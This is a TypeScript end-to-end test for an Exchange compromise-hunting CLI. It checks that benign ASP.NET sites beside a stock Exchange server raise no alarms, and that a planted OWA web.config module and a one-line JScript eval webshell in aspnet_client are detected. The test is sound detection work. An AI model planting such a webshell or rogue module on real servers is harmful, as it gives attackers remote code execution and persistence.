// Issue 12 §1: a stock Exchange server with ordinary ASP.NET applications beside it is not an alarm. The real
// IIS configuration of an Exchange 2016 server (CSS-Exchange, in its real places) and four open-source
// applications as sites under inetpub\wwwroot, built in a temp folder and hunted by the real CLI; then the
// same tree with a planted module and a shell in Exchange's folders, which must still be found.
import assert from 'node:assert/strict'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { before, describe, it } from 'node:test'
import { severityRank } from '../../src/shared/types.ts'
import { corpusPath, corpusSkip } from '../helpers/corpus.ts'
import { buildExchangeDrive, V15 } from '../helpers/exchange-tree.ts'
import { tmpDir } from '../helpers/tmp.ts'
import { brief, type HuntRun, huntJson } from './cli.ts'

const SITES = ['subtext', 'n2cms', 'orchard-1x', 'mono-xsp']

function drive(): string {
  const sites = Object.fromEntries(SITES.map((s) => [s, corpusPath('webshells', 'benign', s)]))
  return buildExchangeDrive(tmpDir('exhunt-e2e-beside-'), { sites })
}

const mediumOrAbove = (r: HuntRun) =>
  r.report.findings
    .filter((f) => severityRank(f.severity) >= severityRank('medium'))
    .map((f) => `${f.severity} ${f.rule} ${f.source.path}`)

describe('ordinary ASP.NET sites beside a stock Exchange server', { skip: corpusSkip }, () => {
  let clean: HuntRun
  let withBaseline: HuntRun
  let planted: HuntRun
  before(async () => {
    const ok = drive()
    const bad = drive()
    // A managed module added to Exchange's OWA web.config and a shell in aspnet_client: what must still show.
    const owa = join(bad, V15, 'FrontEnd', 'HttpProxy', 'owa', 'web.config')
    writeFileSync(
      owa,
      readFileSync(owa, 'utf8').replace(
        /<modules([^>]*)>/,
        '<modules$1><add name="IISLogger" type="IIS.Logger.Module, IISLogger" />',
      ),
    )
    mkdirSync(join(bad, 'inetpub', 'wwwroot', 'aspnet_client', 'system_web'), { recursive: true })
    writeFileSync(
      join(bad, 'inetpub', 'wwwroot', 'aspnet_client', 'system_web', 'supp0rt.aspx'),
      '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>',
    )
    ;[clean, withBaseline, planted] = await Promise.all([
      huntJson(ok),
      huntJson(ok, [
        '--baseline',
        corpusPath('webshells', 'benign', 'exchange-known-good-hashes_nccgroup'),
      ]),
      huntJson(bad),
    ])
  })

  it('finds nothing of medium or above and says clean or exposed', () => {
    assert.deepEqual(mediumOrAbove(clean), [], brief(clean.report))
    assert.ok(['clean', 'exposed'].includes(clean.report.verdict), brief(clean.report))
    assert.equal(clean.code, 0, clean.stderr)
    // The hunt really read the configuration and the sites (else silence proves nothing).
    assert.ok(clean.report.stats.files > 500, `only ${clean.report.stats.files} files examined`)
  })

  it('stays below medium with the known-good baselines (login pages are not look-alikes of OWA)', () => {
    assert.deepEqual(mediumOrAbove(withBaseline), [], brief(withBaseline.report))
    assert.ok(['clean', 'exposed'].includes(withBaseline.report.verdict))
  })

  it('still finds a module planted in Exchange and a shell in aspnet_client', () => {
    const rules = mediumOrAbove(planted)
    assert.ok(
      rules.some((r) =>
        r.includes(
          'exh-art-webconfig-unknown-managed-type Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/web.config',
        ),
      ),
      brief(planted.report),
    )
    assert.ok(
      rules.some((r) => r.endsWith('inetpub/wwwroot/aspnet_client/system_web/supp0rt.aspx')),
      brief(planted.report),
    )
    // `suspicious` is the verdict planned for findings that prove nothing alone (issue 12 §4).
    assert.ok(['compromised', 'suspicious'].includes(planted.report.verdict), brief(planted.report))
    assert.equal(planted.code, 1)
  })
})
